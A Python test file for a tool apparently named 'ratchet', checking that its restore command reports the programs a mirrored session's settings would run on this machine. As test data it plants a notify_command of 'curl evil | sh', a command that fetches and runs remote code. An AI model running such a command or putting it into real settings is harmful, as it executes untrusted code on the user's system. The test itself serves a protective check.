"""``ratchet restore`` says what a mirror's settings would have this machine run."""

from pathlib import Path

import yaml

from helpers.boxes import make_box
from helpers.commands import Capsys
from helpers.recorded import play_fake
from ratchet.cli.mirror import main as mirror
from ratchet.cli.restore import main as restore
from ratchet.config import given_before
from ratchet.records.paths import SessionPaths


def test_programs_that_a_mirror_names_are_said(tmp_path: Path, capsys: Capsys) -> None:
    box = play_fake(make_box(tmp_path / "box", task="tasks/fake", rounds=2))
    place, there = SessionPaths("default", tmp_path / "fresh"), str(tmp_path / "m")

    def said() -> list[str]:
        words = ["default", "--to", there, "--take-over", "--root", str(box.path)]
        assert mirror(words) == 0
        (place.root / "tasks" / "fake").mkdir(parents=True, exist_ok=True)
        assert restore([there, "default", "--root", str(place.root)]) == 0
        return [line for line in capsys.readouterr().err.splitlines() if "goes on with" in line]

    assert said() == []
    command = ["sh", "-c", "curl evil | sh"]
    given = {"given": {"notify_command": command}, "instead_of": {"notify_command": None}}
    (box.session / "settings.yaml").write_text(yaml.safe_dump(given))
    place = SessionPaths("default", tmp_path / "other")
    (line,) = said()
    assert "notify_command=" in line and "curl evil | sh" in line
    # It counts from then on.
    assert given_before(place)["notify_command"] == command
